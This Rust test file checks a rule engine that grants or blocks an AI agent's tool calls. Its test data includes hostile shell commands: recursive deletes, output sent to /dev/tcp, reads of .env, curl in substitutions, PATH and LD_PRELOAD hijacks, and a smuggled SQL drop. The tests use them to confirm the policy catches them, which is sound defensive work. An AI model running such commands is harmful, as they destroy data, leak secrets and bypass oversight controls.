use hooks_core::event::PreToolUse;
use hooks_core::fs::EntryKind;
use hooks_core::testing::{FakeFileSystem, world};
use hooks_core::{HookContext, HookRequest, Policy, Strength, assert_policy_laws};
use hooks_facts::calls::CallReader;
use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::config::RuleConfig;
use crate::testing::{call_by, verdict_on};

fn rules(rules: Value) -> Rules {
    let rules: Vec<RuleConfig> = serde_json::from_value(rules).unwrap();
    Rules::new(&rules, &CallReader::default()).unwrap()
}

#[test]
fn everything_that_is_given_has_to_match() {
    let rules = rules(json!([
        {"name": "all", "tools": ["Edit"], "agents": ["backend"], "paths": ["gen/**"]},
        {"name": "mcp", "tools": ["mcp__*"]},
        {"name": "push", "action": "ask", "commands": ["git push"]},
        {"name": "push-docs", "commands": ["git push"], "paths": ["log/**"]},
    ]));
    for (agent, tool, args, wanted) in [
        ("Backend", "edit", json!({"path": "gen/a"}), (Strength::Deny, "all")),
        ("Backend", "edit", json!({"path": "x/../gen/a"}), (Strength::Deny, "all")),
        ("Backend", "edit", json!({"path": "src/a"}), (Strength::NoOpinion, "")),
        ("Backend", "edit", json!({"path": "~/a"}), (Strength::Deny, "all")),
        ("Backend", "edit", json!({"path": 7}), (Strength::Deny, "all")),
        ("Frontend", "edit", json!({"path": "gen/a"}), (Strength::NoOpinion, "")),
        ("Backend", "create", json!({"path": "gen/a"}), (Strength::NoOpinion, "")),
        ("x", "MCP__mail__send", json!({}), (Strength::Deny, "mcp")),
        ("x", "mcp_mail", json!({}), (Strength::NoOpinion, "")),
        ("x", "bash", json!({"command": "cd a && git -C b push"}), (Strength::Ask, "push")),
        ("x", "bash", json!({"command": "git push > log/a"}), (Strength::Deny, "push-docs")),
        ("x", "bash", json!({"command": "git push; rm lo?/a"}), (Strength::Deny, "push-docs")),
        ("x", "bash", json!({"command": "git push; rm \"$FILE\""}), (Strength::Deny, "push-docs")),
        ("x", "bash", json!({"command": "git push; rm -r log/a/"}), (Strength::Deny, "push-docs")),
        ("x", "bash", json!({"command": "rm \"$FILE\""}), (Strength::NoOpinion, "")),
        ("x", "bash", json!({"command": "$X"}), (Strength::Ask, "push")),
        ("x", "bash", json!({"command": "git pull"}), (Strength::NoOpinion, "")),
    ] {
        let (strength, rule) = verdict_on(&rules, &call_by(agent, tool, args.clone()));
        assert_eq!((strength, rule.as_str()), wanted, "{agent} {tool} {args}");
    }
}

#[test]
fn effects_are_a_condition_beside_the_others() {
    let rules = rules(json!([
        {"name": "much", "effects": ["recursive-delete"], "writes": ["{src,docs}"]},
        {"name": "root", "action": "ask", "effects": ["privilege"]},
    ]));
    for (command, wanted) in [
        ("rm -r src", (Strength::Deny, "much")),
        ("rm -rf ./src/.", (Strength::Deny, "much")),
        ("find src -delete", (Strength::Deny, "much")),
        ("cd src && rm -rf *", (Strength::Deny, "much")),
        ("rm -rf src/*", (Strength::Deny, "much")),
        ("rm -rf src/**", (Strength::Deny, "much")),
        ("rm -rf src/**/*", (Strength::Deny, "much")),
        ("npx rimraf 'src/**'", (Strength::Deny, "much")),
        ("rm -rf src/?*", (Strength::Deny, "much")),
        ("rm -rf src/*.*", (Strength::Deny, "much")),
        ("rm -rf src/*/", (Strength::Deny, "much")),
        ("rm -rf sr*/*", (Strength::Deny, "much")),
        ("rm -rf s*/*", (Strength::Deny, "much")),
        ("rm -rf do*/* out/*", (Strength::Deny, "much")),
        ("rm -rf src/**/*.o", (Strength::NoOpinion, "")),
        ("rm -rf \"$FOLDER\"", (Strength::Deny, "much")),
        ("rm -rf src/generated/*.o", (Strength::NoOpinion, "")),
        ("rm -rf build", (Strength::NoOpinion, "")),
        ("find src -name '*.orig' -delete", (Strength::NoOpinion, "")),
        ("rm src/a.ts", (Strength::NoOpinion, "")),
        // A call in code: by the texts in it; without any, the folder may be every one.
        ("python3 -c 'import shutil; shutil.rmtree(\"src\")'", (Strength::Deny, "much")),
        ("node -e 'require(\"fs\").rmSync(\"./docs/\", {recursive: true})'", (Strength::Deny, "much")),
        ("python3 -c 'import shutil, sys; shutil.rmtree(sys.argv[1])' x", (Strength::Deny, "much")),
        ("rm -rf build; python3 -c 'import shutil; shutil.rmtree(\"src\")'", (Strength::Deny, "much")),
        ("python3 -c 'import shutil; shutil.rmtree(\"build\")'", (Strength::NoOpinion, "")),
        ("docker run --privileged alpine", (Strength::Ask, "root")),
        ("echo sudo", (Strength::NoOpinion, "")),
        // What is not known may have the effect.
        ("$X", (Strength::Ask, "root")),
    ] {
        let (strength, rule) = verdict_on(&rules, &call_by("x", "bash", json!({ "command": command })));
        assert_eq!((strength, rule.as_str()), wanted, "{command}");
    }
    let rule: Vec<RuleConfig> =
        serde_json::from_value(json!([{"name": "a", "action": "allow", "effects": ["privilege"]}])).unwrap();
    let errors = Rules::new(&rule, &CallReader::default()).unwrap_err();
    assert_eq!(errors.as_slice()[0].field, "rules[0].effects");
}

/// Regression test: wildcards were replaced by the files on the disk, so that a folder could be emptied.
#[test]
fn a_folder_that_is_emptied_on_the_disk_is_removed() {
    let rules = rules(json!([{"name": "much", "effects": ["recursive-delete"], "writes": ["src"]}]));
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path().canonicalize().unwrap();
    for name in ["src/a.rs", "src/old/b.rs", "build/x.o"] {
        std::fs::create_dir_all(root.join(name).parent().unwrap()).unwrap();
        std::fs::write(root.join(name), "x").unwrap();
    }
    let judge = |command: &str| {
        let context = HookContext::new("s", "a").in_dir(&root).with_environment(hooks_system::system());
        let call = PreToolUse::new("bash", json!({ "command": command }));
        rules.judge(&HookRequest::new(context, call)).strength()
    };
    for command in ["rm -rf src/*", "cd src && rm -rf *", "cd src && rm -rf ./*", "rm -rf *"] {
        assert_eq!(judge(command), Strength::Deny, "{command}");
    }
    for command in
        ["rm -rf build/*", "cd build && rm -rf *", "rm -rf src/old", "rm -rf src/old/*", "rm -f src/*.o"]
    {
        assert_eq!(judge(command), Strength::NoOpinion, "{command}");
    }
}

#[test]
fn an_allow_covers_the_whole_call_and_hides_no_denial() {
    let rules = rules(json!([
        {"name": "docs", "action": "allow", "paths": ["docs/**", "*.md"]},
        {"name": "status", "action": "allow", "commands": ["git status"]},
        {"name": "secret", "paths": ["docs/secret/**"]},
    ]));
    for (tool, args, wanted) in [
        ("edit", json!({"path": "docs/a"}), Strength::Allow),
        ("edit", json!({"files": ["docs/a", "README.md"]}), Strength::Allow),
        ("edit", json!({"files": ["docs/a", "x.rs"]}), Strength::NoOpinion),
        ("edit", json!({"path": "docs/secret/a"}), Strength::Deny),
        ("bash", json!({"command": "git status -s"}), Strength::Allow),
        ("bash", json!({"command": "git status; ls"}), Strength::NoOpinion),
        ("bash", json!({"command": "git status $(x)"}), Strength::NoOpinion),
    ] {
        assert_eq!(verdict_on(&rules, &call_by("a", tool, args.clone())).0, wanted, "{tool} {args}");
    }
}

#[test]
fn an_allow_is_about_the_program_of_the_system_or_the_file_that_it_names() {
    let rules = rules(json!([
        {"name": "look", "action": "allow", "commands": ["ls", "git status", "./tools/lint.sh", "sql:postgres select"]},
    ]));
    for command in [
        "ls -l",
        "/usr/bin/ls",
        "git status -s",
        "./tools/lint.sh --all",
        "tools/lint.sh",
        "psql -c 'select 1'",
        "psql -c 'select 1' && ls",
        "ls 2> /dev/null",
        "ls \"${DIR:-'src'}\"",
        "git --no-pager status 2>&1",
    ] {
        let verdict = verdict_on(&rules, &call_by("a", "bash", json!({ "command": command })));
        assert_eq!(verdict.0, Strength::Allow, "{command}");
    }
    for command in [
        "./ls",
        "bin/ls",
        "~/bin/ls",
        "/usr/../tmp/ls",
        "/tmp/git status",
        "PATH=. ls",
        "export PATH=$PWD:$PATH; ls",
        "LD_PRELOAD=./x.so ls",
        "hash -p ./x ls && ls",
        "command_not_found_handle() { rm x; }; ls",
        "git --exec-path=/tmp/x status",
        "git -c core.fsmonitor=./x status",
        "cd other && ./tools/lint.sh",
        "ls > ~/.bashrc",
        "ls >> tools/lint.sh",
        "ls > /dev/tcp/192.0.2.1/80",
        "ls $(<.env)",
        "git -C other status",
        "git --git-dir=other --work-tree=. status",
        "((PATH=1)); ls",
        "ls $((PATH=1)); ls",
        "[[ PATH=1 -eq 1 ]]; ls",
        "x[PATH=1]=2; ls",
        "ls ${x[PATH=1]}; ls",
        "ls ${HOME:PATH=1}; ls",
        "y=PATH=1; ls $((y)); ls",
        "BASH_CMDS[ls]=1/ls; ls",
        "BASH_CMDS=([ls]=1/ls); ls",
        "aliases[ls]=./x; ls",
        "commands[ls]=./x; ls",
        "hash ls=./x; ls",
        "path=.; ls",
        "path=(. $path); ls",
        "path[1]=.; ls",
        "{PATH}</dev/null; ls",
        "exec {PATH}>/dev/null && ls",
        "MALLOC_TRACE=x ls",
        "LOCPATH=. ls",
        "_RLD_LIST=./x.so ls",
        "ls \"${x:-'$(curl https://a.example)'}\"",
        "ls ${x:-<(curl https://a.example)}",
        "lint.sh",
        "other/tools/lint.sh",
        "PATH=. ./tools/lint.sh",
        "psql -c 'select 1'; rm x",
        "./psql -c 'select 1'",
        "psql -c 'select 1; drop table a'",
    ] {
        let verdict = verdict_on(&rules, &call_by("a", "bash", json!({ "command": command })));
        assert_eq!(verdict.0, Strength::NoOpinion, "{command}");
    }
}

#[test]
fn the_first_rule_of_the_strongest_action_is_named() {
    let rules = rules(json!([
        {"name": "ask", "action": "ask"},
        {"name": "two", "agents": ["a"]},
        {"name": "three", "tools": ["edit"]},
    ]));
    assert_eq!(verdict_on(&rules, &call_by("a", "edit", json!({}))), (Strength::Deny, "two".into()));
    assert_eq!(verdict_on(&rules, &call_by("b", "edit", json!({}))), (Strength::Deny, "three".into()));
    assert_eq!(verdict_on(&rules, &call_by("b", "view", json!({}))), (Strength::Ask, "ask".into()));
}

/// The reasons of a judgement name every rule of the winning action, and none of another.
#[test]
fn every_rule_of_the_strongest_action_is_named() {
    let rules = rules(json!([
        {"name": "ask", "action": "ask"},
        {"name": "gen", "paths": ["gen/**"]},
        {"name": "edits", "tools": ["edit"], "reason": "nothing is edited on Fridays"},
        {"name": "rust", "tools": ["ed*"], "agents": ["a"], "paths": ["**/*.rs", "gen/*"]},
        {"name": "src", "paths": ["src/**"]},
        {"name": "push", "commands": ["git push"]},
        {"name": "force", "commands": ["git push --force"], "paths": ["log/**"]},
        {"name": "docs", "action": "allow", "paths": ["docs/**"]},
        {"name": "pages", "action": "allow", "paths": ["**/*.md"]},
    ]));
    let names = |tool: &str, args: Value| {
        let verdict = rules.judge(&call_by("a", tool, args));
        let reasons = verdict.reasons().iter();
        (verdict.strength(), reasons.map(|reason| reason.rule.to_string()).collect::<Vec<_>>())
    };
    for (tool, args, strength, wanted) in [
        ("edit", json!({"path": "gen/a.rs"}), Strength::Deny, &["gen", "edits", "rust"][..]),
        ("edit", json!({"path": "x"}), Strength::Deny, &["edits"]),
        ("view", json!({"path": "src/a.rs"}), Strength::Deny, &["src"]),
        ("bash", json!({"command": "git push --force > log/a"}), Strength::Deny, &["push", "force"]),
        ("bash", json!({"command": "git push -f; rm gen/a"}), Strength::Deny, &["gen", "push"]),
        ("bash", json!({"command": "ls"}), Strength::Ask, &["ask"]),
        // The path cannot be known, so only the first rule about paths is named.
        ("view", json!({"path": 7}), Strength::Deny, &["gen"]),
    ] {
        assert_eq!(
            names(tool, args.clone()),
            (strength, wanted.iter().map(ToString::to_string).collect()),
            "{tool} {args}"
        );
    }
}

#[test]
fn a_judgement_names_a_bounded_number_of_rules() {
    let all: Vec<Value> =
        (0..100).map(|number| json!({"name": format!("r{number}"), "paths": ["a/**"]})).collect();
    let verdict = rules(Value::from(all)).judge(&call_by("a", "edit", json!({"path": "a/b"})));
    assert_eq!(verdict.reasons().len(), 8);
}

#[test]
fn examples_are_checked() {
    let bad = json!([{
        "name": "gen", "paths": ["gen/**"],
        "match": [{"tool": "edit", "args": {"path": "gen/a"}}, {"tool": "edit", "args": {"path": "src/a"}}],
        "no_match": [{"tool": "edit", "args": {"path": "gen/../src/a"}}, {"tool": "edit", "args": {"path": "gen/x"}}],
    }]);
    let rules: Vec<RuleConfig> = serde_json::from_value(bad).unwrap();
    let errors = Rules::new(&rules, &CallReader::default()).unwrap_err();
    let fields: Vec<_> = errors.as_slice().iter().map(|error| error.field.as_str()).collect();
    assert_eq!(fields, ["rules[0].match[1]", "rules[0].no_match[1]"]);
}

#[test]
fn an_index_answers_as_each_rule_alone() {
    let tools = ["edit", "create", "ed*", "view"];
    let configs: Vec<RuleConfig> = (0..200)
        .map(|number| {
            let action = ["deny", "ask", "allow"][number % 3];
            let tools = if number % 5 == 0 { vec![] } else { vec![tools[number % 4]] };
            let agents = if number % 7 == 0 { vec![] } else { vec![format!("a{}", number % 11)] };
            let paths = if number % 13 == 0 { vec![] } else { vec![format!("d{}/**", number % 17)] };
            let rule = json!({"name": number.to_string(), "action": action, "tools": tools, "agents": agents, "paths": paths});
            serde_json::from_value(rule).unwrap()
        })
        .collect();
    let reader = CallReader::default();
    let together = Rules::new(&configs, &reader).unwrap();
    let alone: Vec<_> =
        configs.iter().map(|rule| Rules::new(std::slice::from_ref(rule), &reader).unwrap()).collect();
    for number in 0..400 {
        let args = json!({"path": format!("d{}/x", number % 17)});
        let request = call_by(&format!("A{}", number % 11), tools[number % 4].trim_end_matches('*'), args);
        let wanted = alone.iter().map(|rule| rule.judge(&request).strength()).max().unwrap();
        assert_eq!(together.judge(&request).strength(), wanted);
    }
}

/// Regression test: each rule that may apply had a reason in the words of its author, before the reason with the cause.
#[test]
fn rules_that_may_apply_say_why_in_one_reason() {
    let rules = rules(json!([
        {"name": "a", "action": "ask", "commands": ["git push"], "reason": "this leaves the machine"},
        {"name": "b", "action": "ask", "effects": ["privilege"], "reason": "this runs as another user"},
    ]));
    let deep = format!("x={}ls{}", "$(".repeat(40), ")".repeat(40));
    for (command, why) in [
        (deep.as_str(), "the command cannot be read: it is nested too deeply"),
        ("$CMD a", "the program to run is not known before running"),
    ] {
        let verdict = rules.judge(&crate::testing::call("bash", json!({ "command": command })));
        assert_eq!(verdict.strength(), Strength::Ask);
        let [reason] = verdict.reasons() else { panic!("{verdict:?}") };
        assert!(
            reason.message.starts_with(&format!("the rules `a`, `b` may apply: {why}")),
            "{}",
            reason.message
        );
        assert!(!reason.by_operator && reason.kind == hooks_core::ReasonKind::Uncertain);
    }
    let known = rules.judge(&crate::testing::call("bash", json!({"command": "git push; $CMD a"})));
    assert_eq!(known.reasons()[0].message, "this leaves the machine");
}

proptest! {
    /// The judgement of many rules is the strongest judgement of any of them alone, with the reasons and evidence of
    /// the first such rules, also if links lead elsewhere. If a path cannot be known, only the first rule is named.
    #[test]
    fn many_globs_say_what_each_of_them_says_alone(
        patterns in prop::collection::vec("[ab]{0,2}(/|[*?]|[*]{2}/|[{]a,b[}]|[ab]|-c[0-3]-){1,5}[ab]{0,2}", 1..40),
        paths in prop::collection::vec("([ab]|-c[0-3]-|/|[.][.]/|[.]/){1,6}", 1..4),
        links in prop::collection::vec(("[ab]{1,2}(/[ab]{1,2})?", "([.][.]/)?[ab]{1,2}(/-c[0-3]-)?"), 0..4),
    ) {
        let mut configs: Vec<RuleConfig> = Vec::new();
        for (number, pattern) in patterns.iter().enumerate() {
            let action = ["deny", "ask"][number % 2];
            let rule = json!([{"name": number.to_string(), "action": action, "paths": [pattern]}]);
            let rule: Vec<RuleConfig> = serde_json::from_value(rule).unwrap();
            if Rules::new(&rule, &CallReader::default()).is_ok() {
                configs.extend(rule);
            }
        }
        let mut files = FakeFileSystem::default().with("/repo", EntryKind::Directory);
        for (link, target) in &links {
            files = files.with_link(format!("/repo/{link}"), target);
        }
        let (environment, ..) = world(files);
        let context = HookContext::new("s", "a").in_dir("/repo").with_environment(environment);
        let request = HookRequest::new(context, PreToolUse::new("edit", json!({"files": paths})));
        let reader = CallReader::default();
        let together = Rules::new(&configs, &reader).unwrap().judge(&request);
        let alone = configs.iter().map(|rule| {
            Rules::new(std::slice::from_ref(rule), &CallReader::default()).unwrap().judge(&request)
        });
        let alone: Vec<_> = alone.collect();
        let strongest = alone.iter().map(hooks_core::Verdict::strength).max().unwrap_or_default();
        let is_known = |verdict: &hooks_core::Verdict| {
            verdict.reasons().iter().all(|reason| !reason.message.contains("may apply: the call"))
        };
        let mut winners = alone.into_iter().filter(|verdict| verdict.strength() == strongest);
        let mut wanted = winners.next().unwrap_or(hooks_core::Verdict::NO_OPINION);
        for other in winners.filter(is_known).take(7) {
            wanted.merge(other);
        }
        prop_assert_eq!(together, wanted);
    }
}

#[test]
fn laws() {
    assert_policy_laws!(
        PreToolUse,
        rules(json!([
            {"name": "a", "action": "ask", "paths": ["**/*.md"]}, {"name": "b", "commands": ["rm"]},
            {"name": "c", "action": "allow", "tools": ["edit", "create*"]}
        ]))
    );
}
